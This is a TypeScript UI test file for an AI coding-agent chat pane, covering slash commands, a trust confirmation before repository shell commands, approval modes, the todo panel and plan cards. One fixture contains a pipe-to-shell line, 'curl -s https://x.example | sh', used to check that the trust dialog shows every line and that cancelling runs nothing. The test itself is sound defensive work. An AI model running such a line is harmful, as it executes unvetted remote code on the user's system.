// @vitest-environment jsdom
// Slash commands, the trust question, Shift+Tab, the todo panel and the plan
// card in the chat view, over the fake hub (docs/workflows.md).
import { act } from "react";
import { describe, expect, it } from "vitest";
import { BUILTIN_COMMANDS, customCommands, matchCommands, parseSlash, slashAt } from "../chat/commands";
import { DelegationCard, delegateAgent } from "../chat/DelegationCard";
import { newDelegation } from "../state/stream";
import type { Message, ServerFrame, Session } from "../protocol";
import { FakeHub, ScriptedTransport, manualScheduler, session } from "../testing/fakes";
import { eventFrame, wire, nextEventId } from "../testing/frames";
import { mountPerTest } from "../testing/mount";
import { ChatPane } from "./ChatPane";
import { AppController } from "./controller";
import { added, progress, removed, toggled } from "./todo/todos";

// jsdom has no layout: give the virtualised list a viewport so rows render.
Object.defineProperties(HTMLElement.prototype, {
  clientHeight: { configurable: true, get: () => 800 },
  offsetHeight: { configurable: true, get: () => 800 },
  clientWidth: { configurable: true, get: () => 1000 },
  offsetWidth: { configurable: true, get: () => 1000 },
});

const dom = mountPerTest();
const SID = "01KWF0000000000000000000S1";

async function setup(over: Partial<Session> = {}, messages: Message[] = [], prepare: (hub: FakeHub) => void = () => {}) {
  const hub = new FakeHub();
  const rec = session(SID, { approval_mode: "ask", workspace_path: "/repo", ...over });
  hub.sessions = [rec];
  prepare(hub);
  const clock = manualScheduler();
  const transports: ScriptedTransport[] = [];
  const snapshot = wire({ type: "snapshot", session: rec, messages, snapshot_at_event_id: nextEventId() });
  const ctl = new AppController({
    hub,
    pollMs: 0,
    schedule: clock.schedule,
    transport: () => {
      const t = new ScriptedTransport(() => [snapshot]);
      transports.push(t);
      return t;
    },
  });
  await act(async () => {
    await ctl.start(SID);
    clock.tick();
  });
  act(() => dom.root.render(<ChatPane ctl={ctl} sessionId={SID} defaultModel="" />));
  const push = async (...frames: ServerFrame[]) =>
    act(async () => {
      transports.at(-1)!.push(...frames);
      clock.tick();
      await Promise.resolve();
    });
  return { hub, ctl, push };
}

const q = <T extends HTMLElement = HTMLElement>(sel: string) => document.querySelector<T>(sel);
const all = (sel: string) => [...document.querySelectorAll<HTMLElement>(sel)];
const settle = () => act(async () => new Promise((r) => setTimeout(r, 0)));

async function type(value: string) {
  const ta = q<HTMLTextAreaElement>("textarea[aria-label=Message]")!;
  const setter = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, "value")!.set!;
  await act(async () => {
    setter.call(ta, value);
    ta.setSelectionRange(value.length, value.length);
    ta.dispatchEvent(new Event("input", { bubbles: true }));
  });
  await settle();
  return ta;
}

async function press(key: string, shiftKey = false) {
  const ta = q<HTMLTextAreaElement>("textarea[aria-label=Message]")!;
  await act(async () => {
    ta.dispatchEvent(new KeyboardEvent("keydown", { key, shiftKey, bubbles: true, cancelable: true }));
  });
  await settle();
}

const review = { name: "review", kind: "command", description: "Review a file", argument_hint: "<file>", source: "project", path: "/repo/.claude/commands/review.md" };
const deploy = { ...review, name: "deploy", description: "Deploy", shell: ["make deploy"], needs_trust: true, path: "/repo/.claude/commands/deploy.md" };

describe("slash commands (pure)", () => {
  it("reads what is typed and sent", () => {
    expect(slashAt("/rev", 4)).toEqual({ query: "rev" });
    expect(slashAt("/review a", 9)).toBeNull();
    expect(slashAt("a /rev", 6)).toBeNull();
    expect(parseSlash("/review  src/a.go  ")).toEqual({ name: "review", args: "src/a.go" });
    expect(parseSlash("/usr/bin is a folder")).toBeNull(); // a path is a message
    expect(parseSlash("hello /x")).toBeNull();
    const cs = [...BUILTIN_COMMANDS, ...customCommands([review, { ...review, name: "plan" }])];
    expect(cs.filter((c) => c.name === "plan")).toHaveLength(1); // a file cannot take a built-in's name
    expect(matchCommands(cs, "re").map((c) => c.name)).toEqual(["review"]);
    expect(matchCommands(cs, "o").map((c) => c.name)).toEqual(["compact", "model", "undo"]);
  });
});

describe("the todo list (pure)", () => {
  it("ticks, adds and removes", () => {
    const l = [{ id: "1", text: "a", status: "in_progress" }, { id: "u3", text: "b", status: "cancelled" }];
    expect(toggled(l, "1")[0]!.status).toBe("done");
    expect(toggled(toggled(l, "1"), "1")[0]!.status).toBe("pending");
    expect(added(l, "  c ").at(-1)).toEqual({ id: "u4", text: "c", status: "pending" });
    expect(added(l, "   ")).toBe(l);
    expect(removed(l, "1").map((t) => t.id)).toEqual(["u3"]);
    expect(progress(toggled(l, "1"))).toBe("1 of 1 done");
  });
});

describe("the composer's slash commands", () => {
  it("lists built-ins and the folder's commands, inserts the one chosen and runs it", async () => {
    const { hub, ctl } = await setup({}, [], (h) => (h.commands = { commands: [review], agents: [], problems: [] }));
    await type("/");
    const names = all("[data-testid=slash-option] .slash-name").map((e) => e.textContent);
    expect(names).toEqual(["/plan", "/compact", "/model", "/title", "/clear", "/undo", "/review"]);
    await type("/rev");
    expect(all("[data-testid=slash-option]").map((e) => e.textContent)).toEqual(["/review<file>Review a filecommand · project"]);
    await press("Enter");
    const ta = await type("/review src/a.go");
    await press("Enter");
    expect(hub.calls.find((c) => c[0] === "runCommand")).toEqual(["runCommand", SID, "review", "src/a.go", false]);
    expect(ta.value).toBe("");
    ctl.dispose();
  });

  it("asks before a repository command runs shell lines; Cancel runs nothing and keeps the text", async () => {
    const { hub, ctl } = await setup({}, [], (h) => (h.commands = { commands: [deploy], agents: [], problems: [] }));
    const ta = await type("/deploy staging");
    await press("Enter");
    expect(q("[data-testid=trust-confirm]")?.textContent).toContain("make deploy");
    await act(async () => q("[data-testid=trust-cancel]")!.click());
    await settle();
    expect(hub.calls.some((c) => c[0] === "runCommand")).toBe(false);
    expect(ta.value).toBe("/deploy staging");
    await press("Enter");
    await act(async () => q("[data-testid=trust-run]")!.click());
    await settle();
    expect(hub.calls.find((c) => c[0] === "runCommand")).toEqual(["runCommand", SID, "deploy", "staging", true]);
    ctl.dispose();
  });

  it("asks again when the command's file changed since it was listed (the hub refused it)", async () => {
    const listed = { ...deploy, needs_trust: false };
    const { hub, ctl } = await setup({}, [], (h) => (h.commands = { commands: [listed], agents: [], problems: [] }));
    await type("/deploy");
    hub.commands = { commands: [deploy], agents: [], problems: [] }; // the file changed: it needs trust again
    const ta = await type("/deploy staging");
    await press("Enter");
    expect(hub.calls.filter((c) => c[0] === "runCommand")).toEqual([["runCommand", SID, "deploy", "staging", false]]);
    expect(ctl.store.getState().ui.notice).toContain("/deploy needs trust");
    expect(ta.value).toBe("/deploy staging");
    await press("Enter");
    expect(q("[data-testid=trust-confirm]")).not.toBeNull();
    ctl.dispose();
  });

  it("runs the built-ins, and Shift+Tab cycles the approval mode", async () => {
    const { hub, ctl } = await setup({ active_model: "openai:gpt-4.1" });
    await press("Tab", true);
    expect(hub.calls.filter((c) => c[0] === "setApprovalMode")).toEqual([["setApprovalMode", SID, "auto-edits"]]);
    await type("/plan look at the parser");
    await press("Enter");
    expect(hub.calls.filter((c) => c[0] === "setApprovalMode" || c[0] === "submitTurn").slice(1)).toEqual([
      ["setApprovalMode", SID, "plan"],
      ["submitTurn", SID, "look at the parser"],
    ]);
    await type("/title Parser work");
    await press("Enter");
    expect(hub.calls.find((c) => c[0] === "renameSession")).toEqual(["renameSession", SID, "Parser work"]);
    await type("/clear");
    await press("Enter");
    expect(hub.calls.find((c) => c[0] === "createSession")).toEqual(["createSession", { workspace_path: "/repo", model: "openai:gpt-4.1" }]);
    ctl.dispose();
  });
});

describe("the todo panel", () => {
  it("shows the list live, and the user's tick and addition go to the hub", async () => {
    const todos = [{ id: "1", text: "Read the code", status: "done" }, { id: "2", text: "Fix the bug", status: "in_progress" }];
    const { hub, ctl, push } = await setup({ todos, todos_by: "agent" });
    expect(q("[data-testid=todo-progress]")?.textContent).toBe("1 of 2 done");
    expect(all("[data-testid=todo-item]").map((e) => e.dataset.status)).toEqual(["done", "in_progress"]);
    await act(async () => q<HTMLInputElement>('input[aria-label="Done: Fix the bug"]')!.click());
    expect(hub.calls.find((c) => c[0] === "setTodos")).toEqual(["setTodos", SID, [todos[0], { ...todos[1], status: "done" }]]);
    const next = [...todos, { id: "3", text: "Add a test", status: "pending" }];
    await push(eventFrame(SID, null, "todo.updated", { todos: next, by: "agent", tool_use_id: "tu_9" }, "agent"));
    expect(all("[data-testid=todo-item] .todo-text").map((e) => e.textContent)).toEqual(["Read the code", "Fix the bug", "Add a test"]);
    ctl.dispose();
  });

  it("offers to start a list when there is none", async () => {
    const { ctl } = await setup();
    expect(q("[data-testid=todo-panel]")).toBeNull();
    await act(async () => q("[data-testid=todo-start]")!.click());
    expect(q('input[aria-label="Add a todo"]')).not.toBeNull();
    ctl.dispose();
  });
});

describe("the plan card", () => {
  const plan = "1. Read **parser.go**\n2. Fix the off-by-one";
  const messages: Message[] = [
    { id: "m1", session_id: SID, offset: 0, turn_id: "t1", role: "user", content: [{ type: "text", text: "Plan the fix" }], status: "complete", created_at: "2026-05-08T14:00:00Z" },
    { id: "m2", session_id: SID, offset: 1, turn_id: "t1", role: "assistant", content: [{ type: "toolCall", id: "tu_plan", name: "present_plan", arguments: { plan } }], status: "complete", created_at: "2026-05-08T14:00:01Z" },
    { id: "m3", session_id: SID, offset: 2, turn_id: "t1", role: "toolResult", content: [{ type: "text", text: "shown" }], status: "complete", tool_call_id: "tu_plan", tool_name: "present_plan", created_at: "2026-05-08T14:00:02Z" },
  ];
  const proposed = { text: plan, tool_use_id: "tu_plan", status: "proposed", created_at: "2026-05-08T14:00:02Z" };

  it("shows the plan with Build it, Keep planning and Edit; Build it builds it as edited", async () => {
    const { hub, ctl } = await setup({ approval_mode: "plan", plan: proposed }, messages);
    const card = q("[data-testid=plan-card]")!;
    expect(card.dataset.state).toBe("proposed");
    expect(card.querySelector(".plan-text strong")?.textContent).toBe("parser.go");
    await act(async () => q("[data-testid=plan-edit]")!.click());
    const edit = q<HTMLTextAreaElement>('textarea[aria-label="Edit the plan"]')!;
    const setter = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, "value")!.set!;
    await act(async () => {
      setter.call(edit, `${plan}\n3. Add a test`);
      edit.dispatchEvent(new Event("input", { bubbles: true }));
    });
    await act(async () => q("[data-testid=plan-build]")!.click());
    await settle();
    expect(hub.calls.find((c) => c[0] === "buildPlan")).toEqual(["buildPlan", SID, "auto-edits", `${plan}\n3. Add a test`]);
    await act(async () => q("[data-testid=plan-keep]")!.click());
    expect(document.activeElement?.getAttribute("aria-label")).toBe("Message");
    ctl.dispose();
  });

  it("says where an accepted plan is being built, without buttons (after a reload too)", async () => {
    const { ctl } = await setup({ approval_mode: "auto-edits", plan: { ...proposed, status: "accepted", mode: "auto-edits", edited: true, turn_id: "t2" } }, messages);
    expect(q("[data-testid=plan-card]")?.dataset.state).toBe("accepted");
    expect(q("[data-testid=plan-card] .tool-status-text")?.textContent).toBe("Building in Auto edits (edited)");
    expect(q("[data-testid=plan-build]")).toBeNull();
    ctl.dispose();
  });

  it("builds in the mode chosen beside Build it; Discard edits builds the plan as presented", async () => {
    const { hub, ctl } = await setup({ approval_mode: "plan", plan: proposed }, messages);
    const select = q<HTMLSelectElement>('select[aria-label="Mode to build in"]')!;
    expect([...select.options].map((o) => o.value)).toEqual(["ask", "auto-edits", "auto-all"]);
    await act(async () => q("[data-testid=plan-edit]")!.click());
    expect(q("[data-testid=plan-edit]")?.textContent).toBe("Discard edits");
    await act(async () => q("[data-testid=plan-edit]")!.click());
    expect(q('textarea[aria-label="Edit the plan"]')).toBeNull();
    await act(async () => {
      select.value = "auto-all";
      select.dispatchEvent(new Event("change", { bubbles: true }));
    });
    await act(async () => q("[data-testid=plan-build]")!.click());
    await settle();
    expect(hub.calls.find((c) => c[0] === "buildPlan")).toEqual(["buildPlan", SID, "auto-all", undefined]);
    ctl.dispose();
  });

  it("keeps the card and says why when Build it fails", async () => {
    const { ctl } = await setup({ approval_mode: "plan", plan: proposed }, messages, (h) => (h.buildPlan = () => Promise.reject(new Error("the session has no plan to build"))));
    await act(async () => q("[data-testid=plan-build]")!.click());
    await settle();
    expect(ctl.store.getState().ui.notice).toBe("Could not build the plan: the session has no plan to build");
    expect(q("[data-testid=plan-card]")?.dataset.state).toBe("proposed");
    expect(q<HTMLButtonElement>("[data-testid=plan-build]")?.disabled).toBe(false);
    ctl.dispose();
  });

  it("an older plan that a newer one replaced has no buttons", async () => {
    const newer = { ...proposed, tool_use_id: "tu_plan2", text: "1. Something else" };
    const { ctl } = await setup({ approval_mode: "plan", plan: newer }, messages);
    expect(q("[data-testid=plan-card]")?.dataset.state).toBe("replaced");
    expect(q("[data-testid=plan-card] .tool-status-text")?.textContent).toBe("Replaced by a newer plan");
    expect(q("[data-testid=plan-card] .plan-text strong")?.textContent).toBe("parser.go"); // its own text, from the call
    expect(q("[data-testid=plan-build]")).toBeNull();
    ctl.dispose();
  });
});

describe("slash completion: the keys and what is not a command", () => {
  const skill = { name: "explain", kind: "skill", description: "Explain code", source: "user", path: "/home/u/.claude/skills/explain/SKILL.md" };
  const opts = () => all("[data-testid=slash-option]");
  const selected = () => opts().findIndex((e) => e.getAttribute("aria-selected") === "true");

  it("↑ ↓ choose, Tab inserts the chosen one, Esc closes; skills and shell lines are labelled", async () => {
    const { ctl } = await setup({}, [], (h) => (h.commands = { commands: [review, deploy, skill], agents: [], problems: [] }));
    await type("/");
    const names = opts().map((e) => e.querySelector(".slash-name")!.textContent);
    expect(names.slice(-3)).toEqual(["/review", "/deploy", "/explain"]);
    expect(opts().find((e) => e.dataset.kind === "skill")?.querySelector(".slash-origin")?.textContent).toBe("skill · user");
    expect(opts().find((e) => e.textContent?.startsWith("/deploy"))?.querySelector(".slash-shell")?.textContent).toBe("runs a command");
    expect(opts().filter((e) => e.dataset.kind === "builtin").map((e) => e.querySelector(".slash-origin")?.textContent)).toEqual(Array(6).fill("built-in"));
    expect(selected()).toBe(0);
    await press("ArrowDown");
    await press("ArrowDown");
    expect(selected()).toBe(2);
    await press("ArrowUp");
    expect(selected()).toBe(1);
    await press("ArrowUp");
    await press("ArrowUp");
    expect(selected()).toBe(names.length - 1); // wraps round
    await press("Tab");
    expect(q<HTMLTextAreaElement>("textarea[aria-label=Message]")!.value).toBe("/explain ");
    expect(q(".slash-list")).toBeNull();
    await type("/re");
    expect(q(".slash-list")).not.toBeNull();
    await press("Escape");
    expect(q(".slash-list")).toBeNull();
    ctl.dispose();
  });

  it("keeps the chosen command in view", async () => {
    const seen: string[] = [];
    Object.defineProperty(HTMLElement.prototype, "scrollIntoView", {
      configurable: true,
      value(this: HTMLElement) {
        seen.push(this.querySelector(".slash-name")?.textContent ?? "");
      },
    });
    const { ctl } = await setup({}, [], (h) => (h.commands = { commands: [review], agents: [], problems: [] }));
    await type("/");
    await press("ArrowUp"); // wraps round to the last
    expect(seen.at(-1)).toBe("/review");
    delete (HTMLElement.prototype as { scrollIntoView?: unknown }).scrollIntoView;
    ctl.dispose();
  });

  it("sends a /word that names no command, and a path, as messages", async () => {
    const { hub, ctl } = await setup({}, [], (h) => (h.commands = { commands: [review], agents: [], problems: [] }));
    await type("/nosuch thing");
    await press("Enter");
    await type("/usr/bin is a folder");
    await press("Enter");
    expect(hub.calls.filter((c) => c[0] === "submitTurn")).toEqual([
      ["submitTurn", SID, "/nosuch thing"],
      ["submitTurn", SID, "/usr/bin is a folder"],
    ]);
    expect(hub.calls.some((c) => c[0] === "runCommand")).toBe(false);
    ctl.dispose();
  });

  it("still offers the built-ins when the hub cannot list the folder's commands", async () => {
    const { ctl } = await setup({}, [], (h) => (h.listCommands = () => Promise.reject(new Error("no"))));
    await type("/");
    expect(all("[data-testid=slash-option]").map((e) => e.dataset.kind)).toEqual(Array(6).fill("builtin"));
    ctl.dispose();
  });

  it("shows the trust question with the file and every line; Esc answers no", async () => {
    const two = { ...deploy, shell: ["make deploy", "curl -s https://x.example | sh"] };
    const { hub, ctl } = await setup({}, [], (h) => (h.commands = { commands: [two], agents: [], problems: [] }));
    await type("/deploy");
    await press("Enter");
    const dialog = q("[data-testid=trust-confirm]")!;
    expect(dialog.querySelector("code")?.textContent).toBe("/repo/.claude/commands/deploy.md");
    expect([...dialog.querySelectorAll(".trust-lines li")].map((e) => e.textContent)).toEqual(two.shell);
    await act(async () => dialog.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true })));
    await settle();
    expect(q("[data-testid=trust-confirm]")).toBeNull();
    expect(hub.calls.some((c) => c[0] === "runCommand")).toBe(false);
    ctl.dispose();
  });

  it("offers the folder's agents as @agent-NAME before its files", async () => {
    const explorer = { name: "explorer", description: "Finds where things are", source: "project", path: "/repo/.agenthub/agents/explorer.md" };
    const { ctl } = await setup({}, [], (h) => {
      h.commands = { commands: [], agents: [explorer], problems: [] };
      h.files = ["src/explore.go"];
    });
    await type("@expl");
    await act(async () => new Promise((r) => setTimeout(r, 300))); // the mention debounce
    expect(all("#mention-list [role=option]").map((e) => e.textContent)).toEqual(["agent-explorer", "src/explore.go"]);
    ctl.dispose();
  });
});

describe("the approval mode: Shift+Tab and the built-ins that change the session", () => {
  const checked = () => q("[role=radiogroup][aria-label='Approval mode'] [aria-checked=true] .mode-label")?.textContent;

  it("Shift+Tab cycles ask → auto edits → auto all → plan → ask, and the switch follows", async () => {
    const { hub, ctl } = await setup();
    expect(checked()).toBe("Ask");
    const seen: (string | undefined)[] = [];
    for (let i = 0; i < 4; i++) {
      await press("Tab", true);
      seen.push(checked());
    }
    expect(hub.calls.filter((c) => c[0] === "setApprovalMode").map((c) => c[2])).toEqual(["auto-edits", "auto-all", "plan", "ask"]);
    expect(seen).toEqual(["Auto edits", "Auto all", "Plan", "Ask"]);
    await press("Tab"); // Tab alone is not the mode's
    expect(hub.calls.filter((c) => c[0] === "setApprovalMode")).toHaveLength(4);
    await act(async () => all("[role=radio]").find((e) => e.textContent?.includes("Plan"))!.click());
    await settle();
    expect(hub.calls.filter((c) => c[0] === "setApprovalMode").at(-1)).toEqual(["setApprovalMode", SID, "plan"]);
    ctl.dispose();
  });

  it("/model, /compact and /undo", async () => {
    const { hub, ctl } = await setup({}, [], (h) => (h.models = [{ id: "openai:gpt-4.1", provider: "openai", context_window: 1, configured: true }]));
    await type("/model");
    await press("Enter");
    expect(ctl.store.getState().ui.notice).toBe("Usage: /model provider:model (configured: openai:gpt-4.1)");
    await type("/model openai:gpt-4.1");
    await press("Enter");
    expect(hub.calls.find((c) => c[0] === "updateSession")).toEqual(["updateSession", SID, { model: "openai:gpt-4.1" }]);
    await type("/compact");
    await press("Enter");
    expect(hub.calls.find((c) => c[0] === "compactSession")).toEqual(["compactSession", SID]);
    await type("/undo");
    await press("Enter");
    expect(ctl.store.getState().ui.notice).toBe("No turn of this session changed files.");
    ctl.dispose();
  });
});

describe("the todo panel: the user's edits", () => {
  const todos = [
    { id: "1", text: "Read the code", status: "done" },
    { id: "2", text: "Fix the bug", status: "in_progress" },
    { id: "3", text: "Old idea", status: "cancelled" },
  ];

  it("removes an item, adds one, says the list was edited by the user, and folds", async () => {
    const { hub, ctl } = await setup({ todos, todos_by: "agent" });
    expect(all("[data-testid=todo-item] .todo-mark").map((e) => e.textContent)).toEqual(["✓", "◐", "–"]);
    expect(q("[data-testid=todo-progress]")?.textContent).toBe("1 of 2 done"); // cancelled items do not count
    expect(q(".todo-by")).toBeNull();
    await act(async () => q('button[aria-label="Remove: Old idea"]')!.click());
    await settle();
    expect(hub.calls.filter((c) => c[0] === "setTodos").at(-1)).toEqual(["setTodos", SID, todos.slice(0, 2)]);
    const field = q<HTMLInputElement>('input[aria-label="Add a todo"]')!;
    const setter = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value")!.set!;
    await act(async () => {
      setter.call(field, "Write a test");
      field.dispatchEvent(new Event("input", { bubbles: true }));
    });
    await act(async () => field.form!.requestSubmit());
    await settle();
    expect(hub.calls.filter((c) => c[0] === "setTodos").at(-1)).toEqual(["setTodos", SID, [...todos.slice(0, 2), { id: "u3", text: "Write a test", status: "pending" }]]);
    expect(field.value).toBe("");
    await act(async () => ctl.refreshSessions());
    expect(q(".todo-by")?.textContent).toBe("edited by you");
    await act(async () => q(".todo-toggle")!.click());
    expect(q(".todo-toggle")?.getAttribute("aria-expanded")).toBe("false");
    expect(all("[data-testid=todo-item]")).toHaveLength(0);
    expect(q("[data-testid=todo-progress]")?.textContent).toBe("1 of 3 done");
    ctl.dispose();
  });
});

describe("a named sub-agent's delegation card", () => {
  it("says which sub-agent the worker runs as; the generic worker stays a worker", () => {
    expect(delegateAgent({ task: "Find main", agent: "explorer" })).toBe("explorer");
    expect(delegateAgent({ task: "Find main" })).toBe("");
    expect(delegateAgent(null)).toBe("");
    const card = { ...newDelegation("tu_d"), task: "Find main" };
    act(() => dom.root.render(<DelegationCard card={card} agent={delegateAgent({ task: "Find main", agent: "explorer" })} />));
    expect(q(".deleg-card .tool-name")?.textContent).toBe("sub-agent explorer");
    act(() => dom.root.render(<DelegationCard card={card} agent="" />));
    expect(q(".deleg-card .tool-name")?.textContent).toBe("worker");
  });
});
